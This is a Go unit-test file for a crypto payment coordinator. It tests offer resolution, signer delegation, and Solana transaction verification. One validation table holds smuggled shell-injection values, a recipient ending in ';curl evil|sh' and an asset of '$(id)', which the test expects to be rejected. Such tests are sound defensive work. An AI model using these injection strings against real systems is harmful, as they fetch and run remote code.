package payment_test

import (
	"context"
	"errors"
	"io"
	"testing"

	"github.com/Trustflow-Network-Labs/x402-autopay/internal/payment"
	"github.com/Trustflow-Network-Labs/x402-autopay/internal/payment/paymenttest"
	"github.com/Trustflow-Network-Labs/x402-autopay/internal/utils"
)

func newTestCoordinator(t *testing.T, signer payment.Signer, ledger payment.Ledger) *payment.Coordinator {
	t.Helper()

	cm := utils.NewDefaultConfigManager()
	logger := utils.NewLogsManagerWithWriter(cm, io.Discard)

	c, err := payment.NewCoordinator(cm, signer, ledger, logger)
	if err != nil {
		t.Fatalf("Failed to create coordinator: %v", err)
	}
	return c
}

func usdcOffer(network string) payment.PaymentOffer {
	return payment.PaymentOffer{
		Scheme:    "exact",
		Network:   network,
		Asset:     paymenttest.USDC,
		Amount:    "250000",
		Recipient: paymenttest.Recipient,
	}
}

func TestResolveOfferPicksConfiguredNetwork(t *testing.T) {
	c := newTestCoordinator(t, nil, paymenttest.NewLedger())

	evm := usdcOffer("base")
	evm.Amount = "999"
	offers := []payment.PaymentOffer{evm, usdcOffer("solana:mainnet-beta"), usdcOffer("solana")}

	instruction, err := c.ResolveOffer(offers, "weather-api")
	if err != nil {
		t.Fatalf("Failed to resolve offer: %v", err)
	}
	if instruction.Network() != "solana:mainnet-beta" {
		t.Errorf("Expected first matching offer, got network %s", instruction.Network())
	}
	if instruction.DecimalAmount() != "0.25" {
		t.Errorf("Expected amount 0.25, got %s", instruction.DecimalAmount())
	}
	if instruction.ServiceID() != "weather-api" {
		t.Errorf("Expected service id weather-api, got %s", instruction.ServiceID())
	}
	if instruction.EstimatedFee() != 5000 {
		t.Errorf("Expected fee 5000 lamports, got %d", instruction.EstimatedFee())
	}
}

func TestResolveOfferNoMatch(t *testing.T) {
	c := newTestCoordinator(t, nil, paymenttest.NewLedger())

	_, err := c.ResolveOffer([]payment.PaymentOffer{usdcOffer("base"), usdcOffer("solana-devnet")}, "svc")
	if !errors.Is(err, payment.ErrNoMatchingOffer) {
		t.Errorf("Expected ErrNoMatchingOffer, got %v", err)
	}
}

func TestResolveOfferRejectsBadAmount(t *testing.T) {
	c := newTestCoordinator(t, nil, paymenttest.NewLedger())

	offer := usdcOffer("solana")
	offer.Amount = "0.25"
	if _, err := c.ResolveOffer([]payment.PaymentOffer{offer}, "svc"); !errors.Is(err, payment.ErrInvalidAmount) {
		t.Errorf("Expected ErrInvalidAmount, got %v", err)
	}
}

func TestResolveOfferSkipsBadAmount(t *testing.T) {
	c := newTestCoordinator(t, nil, paymenttest.NewLedger())

	bad := usdcOffer("solana")
	bad.Amount = "abc"
	good := usdcOffer("solana")
	good.Amount = "500000"

	instruction, err := c.ResolveOffer([]payment.PaymentOffer{bad, good}, "svc")
	if err != nil {
		t.Fatalf("Expected the valid offer to be picked, got %v", err)
	}
	if instruction.BaseAmount() != "500000" || instruction.DecimalAmount() != "0.50" {
		t.Errorf("Expected 500000 (0.50), got %s (%s)", instruction.BaseAmount(), instruction.DecimalAmount())
	}
}

func TestExecutePaymentValidatesBeforeSigner(t *testing.T) {
	signer := &paymenttest.Signer{Signature: paymenttest.Signature}
	c := newTestCoordinator(t, signer, paymenttest.NewLedger())

	tests := []struct {
		name      string
		recipient string
		mutate    func(*payment.PaymentOffer)
		want      error
	}{
		{"injected recipient", paymenttest.Recipient + ";curl evil|sh", nil, payment.ErrInvalidAddress},
		{"short recipient", "R1", nil, payment.ErrInvalidAddress},
		{"injected asset", paymenttest.Recipient, func(o *payment.PaymentOffer) { o.Asset = "$(id)" }, payment.ErrInvalidAddress},
		{"zero amount", paymenttest.Recipient, func(o *payment.PaymentOffer) { o.Amount = "0" }, payment.ErrInvalidAmount},
		{"negative amount", paymenttest.Recipient, func(o *payment.PaymentOffer) { o.Amount = "-5" }, payment.ErrInvalidAmount},
		{"fractional amount", paymenttest.Recipient, func(o *payment.PaymentOffer) { o.Amount = "1.5" }, payment.ErrInvalidAmount},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			offer := usdcOffer("solana")
			if tt.mutate != nil {
				tt.mutate(&offer)
			}
			if _, err := c.ExecutePayment(context.Background(), offer, tt.recipient); !errors.Is(err, tt.want) {
				t.Errorf("Expected %v, got %v", tt.want, err)
			}
		})
	}

	if signer.CallCount() != 0 {
		t.Errorf("Expected signer never to be called, got %d calls", signer.CallCount())
	}
}

func TestExecutePaymentDelegatesToSigner(t *testing.T) {
	signer := &paymenttest.Signer{Signature: paymenttest.Signature}
	c := newTestCoordinator(t, signer, paymenttest.NewLedger())

	sig, err := c.ExecutePayment(context.Background(), usdcOffer("solana"), paymenttest.Recipient)
	if err != nil {
		t.Fatalf("Failed to execute payment: %v", err)
	}
	if sig != paymenttest.Signature {
		t.Errorf("Expected signature %s, got %s", paymenttest.Signature, sig)
	}
	if signer.Recipient != paymenttest.Recipient || signer.Amount != "250000" || signer.Asset != paymenttest.USDC {
		t.Errorf("Unexpected signer arguments: %s %s %s", signer.Recipient, signer.Amount, signer.Asset)
	}
}

func TestExecutePaymentSignerFailure(t *testing.T) {
	signer := &paymenttest.Signer{Err: errors.New("rpc unavailable")}
	c := newTestCoordinator(t, signer, paymenttest.NewLedger())

	_, err := c.ExecutePayment(context.Background(), usdcOffer("solana"), paymenttest.Recipient)
	if !errors.Is(err, payment.ErrPaymentExecutionFailed) {
		t.Fatalf("Expected ErrPaymentExecutionFailed, got %v", err)
	}
	if payment.CodeOf(err) != payment.CodeExecutionFailed {
		t.Errorf("Expected code %s, got %s", payment.CodeExecutionFailed, payment.CodeOf(err))
	}
}

func TestExecutePaymentRejectsGarbageSignature(t *testing.T) {
	signer := &paymenttest.Signer{Signature: "Transaction sent!"}
	c := newTestCoordinator(t, signer, paymenttest.NewLedger())

	if _, err := c.ExecutePayment(context.Background(), usdcOffer("solana"), paymenttest.Recipient); !errors.Is(err, payment.ErrPaymentExecutionFailed) {
		t.Errorf("Expected ErrPaymentExecutionFailed, got %v", err)
	}
}

func TestExecutePaymentHonorsCancellation(t *testing.T) {
	signer := &paymenttest.Signer{Signature: paymenttest.Signature}
	c := newTestCoordinator(t, signer, paymenttest.NewLedger())

	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	if _, err := c.ExecutePayment(ctx, usdcOffer("solana"), paymenttest.Recipient); !errors.Is(err, context.Canceled) {
		t.Errorf("Expected context.Canceled, got %v", err)
	}
	if signer.CallCount() != 0 {
		t.Error("Expected no submission after cancellation")
	}
}

func TestExecutePaymentWithoutSigner(t *testing.T) {
	c := newTestCoordinator(t, nil, paymenttest.NewLedger())

	if _, err := c.ExecutePayment(context.Background(), usdcOffer("solana"), paymenttest.Recipient); !errors.Is(err, payment.ErrSignerNotConfigured) {
		t.Errorf("Expected ErrSignerNotConfigured, got %v", err)
	}
}

func TestVerifyTransactionToken(t *testing.T) {
	ledger := paymenttest.NewLedger()
	c := newTestCoordinator(t, nil, ledger)
	ctx := context.Background()

	ledger.Add(paymenttest.TokenTransfer(paymenttest.Signature, paymenttest.Recipient, paymenttest.USDC, "1000000", "1250000"))
	if !c.VerifyTransaction(ctx, paymenttest.Signature, paymenttest.Recipient, "250000", paymenttest.USDC) {
		t.Error("Expected exact token delta to verify")
	}

	// no pre balance entry counts as zero
	ledger.Add(paymenttest.TokenTransfer(paymenttest.Signature2, paymenttest.Recipient, paymenttest.USDC, "", "300000"))
	if !c.VerifyTransaction(ctx, paymenttest.Signature2, paymenttest.Recipient, "250000", paymenttest.USDC) {
		t.Error("Expected new token account to verify")
	}
}

func TestVerifyTransactionFalseCases(t *testing.T) {
	ctx := context.Background()

	tests := []struct {
		name     string
		tx       *payment.ParsedTransaction
		ledgerEr error
		recip    string
		amount   string
		asset    string
	}{
		{
			name:   "signature not found",
			recip:  paymenttest.Recipient,
			amount: "250000",
			asset:  paymenttest.USDC,
		},
		{
			name: "execution error",
			tx: func() *payment.ParsedTransaction {
				tx := paymenttest.TokenTransfer(paymenttest.Signature, paymenttest.Recipient, paymenttest.USDC, "0", "250000")
				tx.ExecutionError = true
				return tx
			}(),
			recip:  paymenttest.Recipient,
			amount: "250000",
			asset:  paymenttest.USDC,
		},
		{
			name:   "token delta below expected",
			tx:     paymenttest.TokenTransfer(paymenttest.Signature, paymenttest.Recipient, paymenttest.USDC, "100", "250000"),
			recip:  paymenttest.Recipient,
			amount: "250000",
			asset:  paymenttest.USDC,
		},
		{
			name:   "wrong mint",
			tx:     paymenttest.TokenTransfer(paymenttest.Signature, paymenttest.Recipient, payment.USDCDevnetMint, "0", "250000"),
			recip:  paymenttest.Recipient,
			amount: "250000",
			asset:  paymenttest.USDC,
		},
		{
			name:   "recipient absent",
			tx:     paymenttest.TokenTransfer(paymenttest.Signature, paymenttest.Recipient, paymenttest.USDC, "0", "250000"),
			recip:  paymenttest.Recipient2,
			amount: "250000",
			asset:  paymenttest.USDC,
		},
		{
			name:   "native recipient absent",
			tx:     paymenttest.NativeTransfer(paymenttest.Signature, paymenttest.Recipient, 1_000_000),
			recip:  paymenttest.Recipient2,
			amount: "1000000",
			asset:  "SOL",
		},
		{
			name:   "native delta below expected",
			tx:     paymenttest.NativeTransfer(paymenttest.Signature, paymenttest.Recipient, 999_999),
			recip:  paymenttest.Recipient,
			amount: "1000000",
			asset:  "SOL",
		},
		{
			name:     "ledger error",
			ledgerEr: errors.New("429 too many requests"),
			recip:    paymenttest.Recipient,
			amount:   "250000",
			asset:    paymenttest.USDC,
		},
		{
			name:   "unparseable token amount",
			tx:     paymenttest.TokenTransfer(paymenttest.Signature, paymenttest.Recipient, paymenttest.USDC, "0", "2.5e5"),
			recip:  paymenttest.Recipient,
			amount: "250000",
			asset:  paymenttest.USDC,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ledger := paymenttest.NewLedger()
			ledger.Err = tt.ledgerEr
			if tt.tx != nil {
				ledger.Add(tt.tx)
			}
			c := newTestCoordinator(t, nil, ledger)

			if c.VerifyTransaction(ctx, paymenttest.Signature, tt.recip, tt.amount, tt.asset) {
				t.Error("Expected verification to fail")
			}
		})
	}
}

func TestVerifyTransactionNative(t *testing.T) {
	ledger := paymenttest.NewLedger()
	ledger.Add(paymenttest.NativeTransfer(paymenttest.Signature, paymenttest.Recipient, 1_000_000))
	c := newTestCoordinator(t, nil, ledger)

	if !c.VerifyTransaction(context.Background(), paymenttest.Signature, paymenttest.Recipient, "1000000", "SOL") {
		t.Error("Expected native transfer to verify")
	}
}

func TestGetTransactionStatus(t *testing.T) {
	ledger := paymenttest.NewLedger()
	c := newTestCoordinator(t, nil, ledger)
	ctx := context.Background()

	if status := c.GetTransactionStatus(ctx, paymenttest.Signature); status != payment.TxStatusNotFound {
		t.Errorf("Expected not_found, got %s", status)
	}

	ledger.SetStatus(paymenttest.Signature, payment.TxStatusConfirmed)
	if status := c.GetTransactionStatus(ctx, paymenttest.Signature); status != payment.TxStatusConfirmed {
		t.Errorf("Expected confirmed, got %s", status)
	}

	ledger.Err = errors.New("connection reset")
	if status := c.GetTransactionStatus(ctx, paymenttest.Signature); status != payment.TxStatusNotFound {
		t.Errorf("Expected RPC error to read as not_found, got %s", status)
	}
}
